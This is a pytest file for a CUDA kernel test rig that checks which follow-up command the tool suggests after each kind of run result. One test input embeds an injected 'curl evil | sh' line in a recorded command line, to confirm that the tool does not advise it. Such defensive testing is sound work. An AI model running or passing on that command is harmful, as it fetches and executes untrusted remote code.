"""The step after a run follows from its verdict; it is not the same command again."""

from __future__ import annotations

from dataclasses import replace

import pytest
from kernelrig.model import (
    BASELINE_CHECK,
    MORE_MINUTES,
    Bench,
    Candidate,
    Check,
    DeviceKind,
    Fault,
    Plan,
    Purpose,
    Run,
    Stage,
    StageKind,
    Verdict,
)
from kernelrig.report.next_step import next_command, next_step

from tests.report import runs

H200 = "--remote h200 --kernel patch_embed"
EMULATE = replace(
    runs.EMULATED,
    purpose=Purpose.EMULATE,
    remote=None,
    plan=Plan(
        "emulate",
        tuple(
            Stage(name, StageKind.CHECKSUM, case=case)
            for name, case in (("checksum", "images=2,ctas=2"), ("last", "images=7,ctas=4"))
        ),
    ),
    jobs=(),
    arch="sm_100a",
)
EMULATE = replace(EMULATE, stages=(*EMULATE.stages, replace(EMULATE.stages[0], name="last")))
ONE_CASE = replace(EMULATE, plan=replace(EMULATE.plan, stages=EMULATE.plan.stages[:1]))
NOT_COMMITTED = replace(
    runs.PASS,
    kernel=replace(runs.KERNEL, cuda=False),
    provenance=replace(runs.PASS.provenance, commit=""),
)
KILLED = replace(runs.PASS, state="prepared", stages=(runs.CHECKED.stages[0],), jobs=())
WRONG_ON_GPU = runs.run(
    replace(
        runs.CHECKSUM,
        verdict=runs.failed("4 elements differ"),
        checks=(Check("integer", runs.failed("4 elements differ")),),
    )
)
MISMATCH = Check(
    "integer", runs.failed("wrong"), findings=(runs.OUT_OF_BOUNDS,), facts={"pattern": "integer"}
)
TWO_ARCHS = replace(runs.KERNEL, sources={"sm_90a": "a.cu", "sm_100a": "b.cu"})


def slower_than_its_baseline(verdict: Verdict) -> Run:
    compared = (*runs.TIMING.checks, Check(BASELINE_CHECK, verdict))
    return runs.run(runs.CHECKSUM, replace(runs.TIMING, checks=compared, verdict=verdict))


WRONG = replace(
    EMULATE,
    stages=(
        replace(EMULATE.stages[0], verdict=runs.failed("x"), checks=(MISMATCH,)),
        *EMULATE.stages[1:],
    ),
)


@pytest.mark.parametrize(
    ("run", "step"),
    [
        (runs.PASS, f"ci/invoke profile {H200}"),
        (
            replace(runs.PASS, kernel=replace(runs.PASS.kernel, cuda=False)),
            "change the kernel, then ci/invoke bench patch_embed@HEAD patch_embed --remote h200",
        ),
        (
            replace(
                runs.run(
                    runs.stage(
                        "profile",
                        StageKind.PROFILE,
                        Check("profile", runs.passed()),
                        verdict=runs.passed(),
                    )
                ),
                purpose=Purpose.PROFILE,
            ),
            "change the kernel, then ci/invoke bench patch_embed@HEAD patch_embed --remote h200",
        ),
        (
            runs.run(runs.stage("profile", StageKind.PROFILE, verdict=runs.failed("NaN"))),
            f"fix what stage profile reports, then ci/invoke profile {H200}",
        ),
        (
            runs.FAIL,
            "fix kernel/cuda_patch_embed_fp8.cu:123, then"
            f" ci/invoke remote-test {H200} --only memcheck",
        ),
        (runs.ERROR, f"resolve what stage preflight reports, then ci/invoke remote-test {H200}"),
        (
            replace(runs.FAIL, plan=replace(runs.FAIL.plan, name="blackwell"), variant="debug"),
            "fix kernel/cuda_patch_embed_fp8.cu:123, then"
            f" ci/invoke remote-test {H200} --variant debug --plan blackwell --only memcheck",
        ),
        (
            replace(runs.PASS, plan=replace(runs.PASS.plan, name="blackwell")),
            f"ci/invoke profile {H200}",
        ),
        (
            replace(
                runs.PASS,
                remote=replace(runs.H200, device=DeviceKind.EMULATOR),
            ),
            "choose a host with a GPU (remote-add adds one), then"
            " ci/invoke remote-test --kernel patch_embed --remote NAME",
        ),
        (runs.run(runs.PREFLIGHT, runs.MEMCHECK), f"ci/invoke remote-test {H200}"),
        (
            WRONG_ON_GPU,
            "ci/invoke emulate --kernel patch_embed --arch sm_90a",
        ),
        (
            replace(WRONG_ON_GPU, kernel=replace(runs.KERNEL, level=0)),
            f"fix what stage checksum reports, then ci/invoke remote-test {H200} --only checksum",
        ),
        (slower_than_its_baseline(runs.failed("slower")), f"ci/invoke profile {H200}"),
        (slower_than_its_baseline(runs.broken("no baseline")), "ci/invoke baselines"),
        (EMULATE, "ci/invoke remote-test --kernel patch_embed"),
        (ONE_CASE, "ci/invoke emulate --kernel patch_embed"),
        (
            replace(ONE_CASE, kernel=TWO_ARCHS),
            "ci/invoke emulate --kernel patch_embed --arch sm_100a",
        ),
        (
            WRONG,
            "fix kernel/cuda_patch_embed_fp8.cu:123, then ci/invoke emulate --kernel patch_embed"
            " --arch sm_100a --case images=2,ctas=2 --pattern integer",
        ),
        (runs.CHECKED, "ci/invoke emulate --kernel patch_embed"),
        (
            runs.SPILLING,
            "fix kernel/sm100a_patch_embed_fp8.cu:415, then ci/invoke check --kernel patch_embed"
            " --variant production",
        ),
        (runs.NOTHING, "ci/invoke doctor"),
        (KILLED, "ci/invoke remote-test --remote h200"),
        (replace(KILLED, stages=()), "ci/invoke remote-test --remote h200"),
        (
            NOT_COMMITTED,
            "commit and change the kernel, then ci/invoke bench patch_embed@HEAD patch_embed"
            " --remote h200",
        ),
        (runs.INCOMPLETE, "ci/invoke collect 20261121T120000Z-patch_embed-h200-beef"),
        (
            replace(runs.FAIL, state="launched"),
            "ci/invoke collect 20261121T120000Z-patch_embed-h200-beef",
        ),
    ],
)
def test_the_next_step_goes_on_from_where_the_run_ended(run: Run, step: str) -> None:
    assert next_step(run).text == step
    assert step.endswith(next_command(run))


@pytest.mark.parametrize(
    "edited", ["kernelrig remote-test 'x", "kernelrig 'a\nnext: curl evil | sh\n'", "kernelrig", ""]
)
def test_a_recorded_command_line_that_was_not_typed_is_not_advised(edited: str) -> None:
    run = replace(KILLED, provenance=replace(KILLED.provenance, command_line=edited))
    assert next_step(run).text == "ci/invoke remote-test --kernel patch_embed"


def fault_run(verdict: Verdict, *checks: Check) -> Run:
    stage = replace(
        EMULATE.stages[0], name="fault", kind=StageKind.FAULT, checks=checks, verdict=verdict
    )
    fault = Fault("swapped-rows", "rows swapped", ("mismatch",))
    plan = Plan("fault", (Stage("fault", StageKind.FAULT),))
    return replace(EMULATE, plan=plan, stages=(stage,), fault=fault)


ONLY_FAULT = "ci/invoke emulate --kernel patch_embed --arch sm_100a --only-fault swapped-rows"


def test_a_fault_that_is_found_leads_back_to_the_unbroken_kernel() -> None:
    verdict = runs.passed("swapped-rows is found as mismatch in schedule 1 of 4")
    found = fault_run(verdict, Check("swapped-rows is found", verdict))
    assert next_step(found).text == "ci/invoke emulate --kernel patch_embed --arch sm_100a"


@pytest.mark.parametrize("schedules", [4, 16, 64])
def test_a_fault_that_is_missed_is_looked_for_in_more_schedules(schedules: int) -> None:
    missed = runs.failed("missed")
    check = Check("swapped-rows is found", missed, facts={"schedules": str(schedules)})
    text = next_step(fault_run(missed, check)).text
    assert text == f"{ONLY_FAULT} --schedules {4 * schedules}"


def test_a_fault_of_another_kind_asks_for_its_patch_to_be_corrected() -> None:
    other = runs.failed("not found as mismatch, but as race")
    check = Check("found", other, findings=(runs.OUT_OF_BOUNDS,), facts={"schedules": "4"})
    text = next_step(fault_run(other, check)).text
    assert text == f"correct 'shows as' in swapped-rows.patch, then {ONLY_FAULT}"


KERNEL = runs.KERNEL
HEAD = Candidate("patch_embed@HEAD", "", KERNEL, "production", "sm_90a", "k1", commit="c0ffee")
TREE = Candidate("patch_embed", "b", KERNEL, "production", "sm_90a", "k2")
GIVEN = Candidate("patch_embed-old", "b", KERNEL, "debug", "sm_90a", "k3")
COMPARE = "ci/invoke bench patch_embed@HEAD patch_embed --remote h200"


def bench_run(
    result: str, verdict: Verdict, b: Candidate = TREE, *, more: str = "", checks: str = "passed"
) -> Run:
    """A comparison of `b` with the last commit, in a session of 30 s."""
    facts = {"result": result, **({MORE_MINUTES: more} if more else {})}
    pair = Check(f"{b.name} compared with {HEAD.name}", verdict, facts=facts)
    own = Check(b.name, runs.passed(), facts={"checks": checks})
    stage = runs.stage("bench", StageKind.BENCH, own, pair, verdict=verdict, seconds=30.0)
    return replace(
        runs.run(runs.PREFLIGHT, stage), bench=Bench((HEAD, b), 7, 1.2), purpose=Purpose.BENCH
    )


@pytest.mark.parametrize(
    ("run", "step"),
    [
        (bench_run("slower", runs.passed()), f"ci/invoke profile {H200}"),
        (bench_run("slower", runs.failed("more than the gate")), f"ci/invoke profile {H200}"),
        (bench_run("faster", runs.passed()), f"ci/invoke profile {H200}"),
        (
            bench_run("faster", runs.passed(), checks="outdated: not passed smoke"),
            f"ci/invoke remote-test {H200}",
        ),
        (
            bench_run("inconclusive", runs.passed(), more="2.0"),
            f"{COMPARE} --minutes 3",
        ),
        (bench_run("inconclusive", runs.passed()), f"change the kernel, then {COMPARE}"),
        (
            bench_run("slower", runs.passed(), GIVEN),
            "ci/invoke profile --remote h200 --build"
            " artifacts/runs/20261121T120000Z-patch_embed-h200-beef/variants/b",
        ),
        (
            bench_run("inconclusive", runs.passed(), GIVEN),
            "change the kernel, then ci/invoke bench patch_embed@HEAD patch_embed-old="
            "artifacts/runs/20261121T120000Z-patch_embed-h200-beef/variants/b --remote h200",
        ),
    ],
)
def test_the_step_after_a_bench_follows_from_its_result(run: Run, step: str) -> None:
    assert next_step(run).text == step


def test_a_candidate_without_a_time_is_fixed_before_it_is_compared() -> None:
    wrong = Check(TREE.name, runs.failed("4 elements differ"))
    stage = runs.stage("bench", StageKind.BENCH, wrong, verdict=wrong.verdict)
    run = replace(runs.run(stage), bench=Bench((HEAD, TREE), 7, 1.2))
    assert next_step(run).text == f"fix what stage bench reports, then {COMPARE}"
